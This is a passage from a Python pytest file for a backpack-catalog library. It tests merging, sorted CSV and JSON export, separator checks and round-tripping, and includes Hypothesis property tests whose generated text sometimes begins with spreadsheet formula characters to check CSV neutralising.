        ImportRecord(4, bag("b", price, claim_from_text("capacity", "7 L", SHOP), brand="New", category="sling")),
    ]
    merged = merge_records(records)
    assert isinstance(merged, Catalog)
    assert [p.slug for p in merged] == ["a", "b"] and len(merged) == 2
    b = merged.by_slug("b")
    assert (b.brand, b.category, b.colourways) == ("New", "sling", ("Black",))
    assert [c.field for c in b.claims] == ["price", "capacity"]
    assert "b" in merged and "c" not in merged
    with pytest.raises(KeyError):
        merged.by_slug("c")
    with pytest.raises(SpecError):
        Catalog((bag("a"), bag("a")))


def test_dumps_are_deterministic_and_sorted_by_slug() -> None:
    products = [r.product for r in parse_catalog_csv(make_catalog_csv(30), name="f.csv")]
    shuffled = products[:]
    random.Random(4).shuffle(shuffled)
    assert dump_catalog_csv(shuffled) == dump_catalog_csv(products)
    assert dump_catalog_json(shuffled) == dump_catalog_json(products)
    slugs = [row[0] for row in csv.reader(io.StringIO(dump_catalog_csv(shuffled)))][1:]
    assert slugs == sorted(slugs)
    with pytest.raises(SpecError, match="two products with the slug"):
        dump_catalog_json([products[0], products[0]])


def test_csv_export_refuses_a_list_item_containing_the_separator() -> None:
    with pytest.raises(SpecError, match="colourway 'Black; Gold' contains ';'"):
        dump_catalog_csv([bag("a", colourways=("Black; Gold",))])
    with pytest.raises(SpecError, match="alias 'Mini; Kanken' contains ';'"):
        dump_catalog_csv([bag("a", aliases=("Mini; Kanken",))])


def test_a_source_with_three_prices_takes_three_rows_and_round_trips() -> None:
    review = Source(
        "Kaya Quintana: Herschel Nova mini backpack review",
        ClaimKind.REVIEW,
        SourceDate.parse("undated"),
        "https://kaya.example/nova",
    )
    claims = (
        claim_from_text("category", "backpack", review),
        claim_from_text("capacity", "9 L", review),
        claim_from_text("price", "€59,99", review, note="At Thelittlegreenbag.nl."),
        claim_from_text("price", "$54.99", review),
        claim_from_text("price", "$50", review),
    )
    product = bag(
        "herschel-nova-mini", *claims, brand="Herschel Supply Co.", model="Nova Mini", aliases=("Nova Mini", "HSC Nova")
    )
    text = dump_catalog_csv([product])
    rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in csv.reader(io.StringIO(text))][1:]
    assert [(r["category"], r["capacity"], r["price"], r["note"]) for r in rows] == [
        ("backpack", "9 L", "$50", ""),
        ("", "", "$54.99", ""),
        ("", "", "€59,99", "At Thelittlegreenbag.nl."),
    ]
    assert {(r["aliases"], r["source_title"]) for r in rows} == {("Nova Mini; HSC Nova", review.title)}
    (record,) = parse_catalog_csv(text.encode(), name="export.csv")
    assert record.line == 2
    assert set(record.product.claims) == set(claims) and len(record.product.claims) == len(claims)
    assert record.product.aliases == ("Nova Mini", "HSC Nova")
    assert dump_catalog_csv([record.product]) == text


def test_csv_export_writes_a_sourceless_row_only_when_the_category_needs_it() -> None:
    agreeing = bag("agreeing", claim_from_text("category", "backpack", SHOP))
    differing = bag("differing", claim_from_text("category", "crossbody", SHOP))
    silent = bag("silent", claim_from_text("price", "$5", SHOP))
    text = dump_catalog_csv([agreeing, differing, silent, bag("bare")])
    rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in csv.reader(io.StringIO(text))][1:]
    assert [(r["slug"], r["category"], r["source_title"]) for r in rows] == [
        ("agreeing", "backpack", "Test Shop"),
        ("bare", "backpack", ""),
        ("differing", "backpack", ""),
        ("differing", "crossbody", "Test Shop"),
        ("silent", "backpack", ""),
        ("silent", "", "Test Shop"),
    ]
    back = merge_records(parse_catalog_csv(text.encode(), name="f.csv"))
    assert canonical(back) == canonical([agreeing, bag("bare"), differing, silent])


def test_a_sample_export(capsys: pytest.CaptureFixture[str]) -> None:
    products = [r.product for r in parse_catalog_csv(make_catalog_csv(2), name="f.csv")]
    text = dump_catalog_csv(products)
    assert text.count("\r\n") == 3
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    assert text.splitlines()[1] == (
        "test-bag-000001,Herschel Supply Co.,Mini 1,convertible,Black; Frost Green,,21 x 29 x 11 cm,6 L,201 g,"
        '"Nylon, polyester lining",water_resistant,$31.01,,Test Shop product page 1,https://shop.example/bags/1,'
        "2024-02-02,retailer"
    )


# --------------------------------------------------------------------------- the bundled catalog

BUNDLED = Path(minipack.__file__).parent / "data" / "catalog.json"


@pytest.mark.xfail(not BUNDLED.exists(), reason="data/catalog.json is being written", strict=False)
def test_the_bundled_catalog_loads_and_round_trips_through_json() -> None:
    bundled_catalog.cache_clear()
    shipped = bundled_catalog()
    assert len(shipped) > 0
    assert bundled_catalog() is shipped  # cached
    again = merge_records(parse_catalog_json(dump_catalog_json(shipped), name="export.json"))
    assert canonical(again) == canonical(shipped)
    for product in shipped:
        assert all(
            claim_to_text(c) == (c.published if c.field != "features" else c.published.split("; "))
            for c in product.claims
        )


@pytest.mark.xfail(not BUNDLED.exists(), reason="data/catalog.json is being written", strict=False)
def test_the_bundled_catalog_round_trips_through_csv_with_notes_aliases_and_repeated_fields() -> None:
    shipped = bundled_catalog()
    # What the CSV format once lost: notes, aliases, several values of one field from one source.
    assert any(c.note for p in shipped for c in p.claims)
    assert any(p.aliases for p in shipped)
    assert any(
        len([c for c in p.claims if (c.source.key, c.field) == (d.source.key, d.field)]) > 1
        for p in shipped
        for d in p.claims
    )
    text = dump_catalog_csv(shipped)
    again = merge_records(parse_catalog_csv(text.encode("utf-8"), name="export.csv"))
    assert [p.slug for p in again] == [p.slug for p in shipped]
    for before, after in zip(shipped, again, strict=True):
        identity = (before.brand, before.model, before.category, before.colourways, before.aliases)
        assert (after.brand, after.model, after.category, after.colourways, after.aliases) == identity
        # Claims compare whole: field, value, source, published text and note.
        assert set(after.claims) == set(before.claims), before.slug
        assert len(after.claims) == len(before.claims), before.slug
    assert dump_catalog_csv(again) == text


# --------------------------------------------------------------------------- properties (RELIABILITY 40, 41)

# Strategies are built once, at module level: building them inside every draw costs more than the test itself.
_TEXT = st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"]), min_size=1, max_size=12).map(
    str.strip
)
# Sometimes led by a spreadsheet formula character or an apostrophe, to exercise the CSV neutralising.
_LEAD = st.sampled_from(["", "", "", "=", "+", "-", "@", "'", "'="])
WORDS = st.builds(lambda lead, body: (lead + body).strip() or "x", _LEAD, _TEXT)
COLOURWAYS = WORDS.map(lambda text: text.replace(";", "").strip() or "x")  # ';' separates them in CSV
ALIASES = COLOURWAYS  # ';'-separated in CSV too
MATERIALS = st.builds(
    lambda text, tail: text + tail, WORDS, st.sampled_from(["", "", "\nlined", ',\r\n"lined"', "\rx"])
)
SOURCE_DATES = st.one_of(
    st.sampled_from(["undated", "undated (bought 2018)", "2020 (page title)", "2024-05"]),
    st.dates().filter(lambda d: 1900 <= d.year <= 2100).map(lambda d: d.isoformat()),
)
URLS = st.one_of(st.just(""), st.from_regex(r"https://[a-z]{1,8}\.example/[a-z0-9]{0,8}", fullmatch=True))
SOURCES = st.builds(
    lambda title, kind, date, url: Source(title, kind, SourceDate.parse(date), url),
    WORDS,
    st.sampled_from(list(ClaimKind)),
    SOURCE_DATES,
    URLS,
)
SIDE = st.integers(1, MAX_LENGTH_MM)
AXES = st.one_of(st.none(), st.permutations("LWHD").map(lambda p: (p[0], p[1], p[2])))


@st.composite
def capacities(draw: st.DrawFn) -> Capacity:
    low = draw(st.integers(1, MAX_VOLUME_ML))
    return Capacity(low, draw(st.integers(low, MAX_VOLUME_ML)))


def _money(currency: str) -> st.SearchStrategy[Money]:
    return st.integers(1, MAX_PRICE_MAJOR * 10 ** CURRENCIES[currency][0]).map(lambda n: Money(n, currency))


# A valid value for each field, and the texts a source could have published for it
# ('' for none: the writer then formats the value itself).
VALUES: dict[str, st.SearchStrategy[Any]] = {
    "exterior": st.builds(Dimensions, st.tuples(SIDE, SIDE, SIDE), AXES, st.sampled_from(["mm", "cm", "in"])),
    "capacity": capacities(),
    "weight": st.integers(1, MAX_WEIGHT_G),
    "price": st.sampled_from(sorted(CURRENCIES)).flatmap(_money),
    "features": st.frozensets(st.sampled_from(sorted(FEATURES)), min_size=1),
    "category": st.sampled_from(CATEGORIES),
    "material": MATERIALS,
}
PUBLISHED: dict[str, Any] = {
    "exterior": lambda v: [format_dimensions(v, "metric"), format_dimensions(v, "imperial")],
    "capacity": lambda v: [format_volume(v)],
    "weight": lambda v: [format_weight(v, "metric"), format_weight(v, "imperial")],
    "price": lambda v: [format_price(v)],
    "features": lambda v: ["; ".join(sorted(v))],
    "category": lambda v: [v],
    "material": lambda v: [v],
}
# Notes may hold line breaks, quotes and commas (MATERIALS does), and lead with a formula character.
NOTES = st.one_of(st.just(""), WORDS, MATERIALS)


@st.composite
def products(draw: st.DrawFn) -> Product:
    pool = draw(st.lists(SOURCES, min_size=1, max_size=3, unique_by=lambda s: s.key))
    claims = []
    for source in pool:
        # A few notes per source, so that claims share one; a field may have several values from one source
        # (a review quoting three prices), but never the same value with the same note twice.
        notes = draw(st.lists(NOTES, min_size=1, max_size=3))
        seen = set()
        for field in draw(st.lists(st.sampled_from(catalog.FIELDS), max_size=9)):
            value = draw(VALUES[field])
            note = draw(st.sampled_from(notes))
            if (field, value, note) in seen:
                continue
            seen.add((field, value, note))
            published = draw(st.sampled_from(["", *PUBLISHED[field](value)]))
            claims.append(Claim(field, value, source, published=published, note=note))
    return Product(
        slug=draw(st.from_regex(r"[a-z0-9]{1,8}(-[a-z0-9]{1,8}){0,3}", fullmatch=True)),
        brand=draw(WORDS),
        model=draw(WORDS),
        category=draw(st.sampled_from(CATEGORIES)),
        claims=tuple(claims),
        colourways=tuple(draw(st.lists(COLOURWAYS, max_size=3, unique=True))),
        aliases=tuple(draw(st.lists(ALIASES, max_size=2, unique=True))),
    )


catalogs = st.lists(products(), min_size=1, max_size=4, unique_by=lambda p: p.slug)


@settings(deadline=None)  # generation time varies; 100 examples (the default) each
@given(catalogs)
def test_property_csv_export_reimports_with_identical_values(items: list[Product]) -> None:
    text = dump_catalog_csv(items)
    back = merge_records(parse_catalog_csv(text.encode("utf-8"), name="export.csv"))
    assert canonical(back) == canonical(items)  # notes and aliases included
    # ...and writing it again changes nothing.
    assert dump_catalog_csv(back) == text


@settings(deadline=None)  # generation time varies; 100 examples (the default) each
@given(catalogs)
def test_property_json_export_reimports_with_identical_values(items: list[Product]) -> None:
    text = dump_catalog_json(items)
    records = parse_catalog_json(text.encode("utf-8"), name="export.json")
    assert canonical(r.product for r in records) == canonical(items)
    assert dump_catalog_json(r.product for r in records) == text
    lines = text.splitlines()
    assert all(
        items_slug in lines[r.line] for r, items_slug in zip(records, sorted(p.slug for p in items), strict=True)
    )
